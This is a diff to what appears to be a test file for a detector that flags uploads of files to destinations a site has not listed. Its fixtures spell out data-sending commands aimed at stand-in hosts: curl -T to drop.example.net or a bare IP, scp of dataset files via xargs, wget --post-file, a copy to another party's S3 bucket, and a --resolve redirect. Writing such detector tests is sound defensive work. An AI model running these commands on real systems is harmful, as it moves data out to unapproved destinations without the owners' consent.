@@ -65,6 +65,8 @@ describe('data_upload_outside: an upload to a destination the site has not liste
     ['curl to a listed URL and a bare unlisted host (curl uploads to both)', 'curl -T /m.pt https://artifacts.helixa.example/m drop.example.net/m'],
     ['curl to a listed URL and a bare IP', 'curl -T /m.pt https://artifacts.helixa.example/m 203.0.113.7:8080/m'],
     ['curl to a listed host through --resolve (pointed elsewhere)', 'curl --resolve artifacts.helixa.example:443:203.0.113.9 -T /m.pt https://artifacts.helixa.example/m'],
+    ['curl behind a runner (timeout)', 'timeout 600 curl -T /mnt/lib.tgz https://drop.example.net/u'],
+    ['scp behind xargs', 'ls /mnt/datasets/*.sdf | xargs -I{} scp {} u@203.0.113.7:/srv/'],
     ['wget --post-file', 'wget --post-file=/data/export.csv https://drop.example.net/up'],
     ['wget --body-file', 'wget --method=PUT --body-file /data/x.tar https://drop.example.net/up'],
     ['aws s3 cp to an unlisted bucket', 'aws s3 cp /mnt/datasets/lib.tar s3://someone-elses-bucket/lib.tar'],
@@ -181,6 +183,7 @@ describe('routine ML, ETL and backup uploads to listed destinations and the clus
     ['python requests.post to a Service in the cluster', `python3 -c "import requests; requests.post('http://mlflow.mlflow.svc:5000/api/2.0/mlflow/runs/log-metric', json={'k': 1})"`],
     ['python requests.get anywhere', `python3 -c "import requests; print(requests.get('https://example.com/x').status_code)"`],
     ['mlflow SDK (names no address the command shows)', `python -c "import mlflow; mlflow.log_artifact('/out/model.pt')"`],
+    ['a listed upload behind a runner', 'timeout 600 aws s3 sync /ckpt s3://helixa-models/ckpt'],
     ['plain training', 'python -m helixa.train --config configs/potency.yaml --out /mnt/models/potency'],
     ['a listed host behind the proxy the env names', 'curl -T /out/m.pt https://artifacts.helixa.example/m'],
   ])('%s', (_name, script) => {
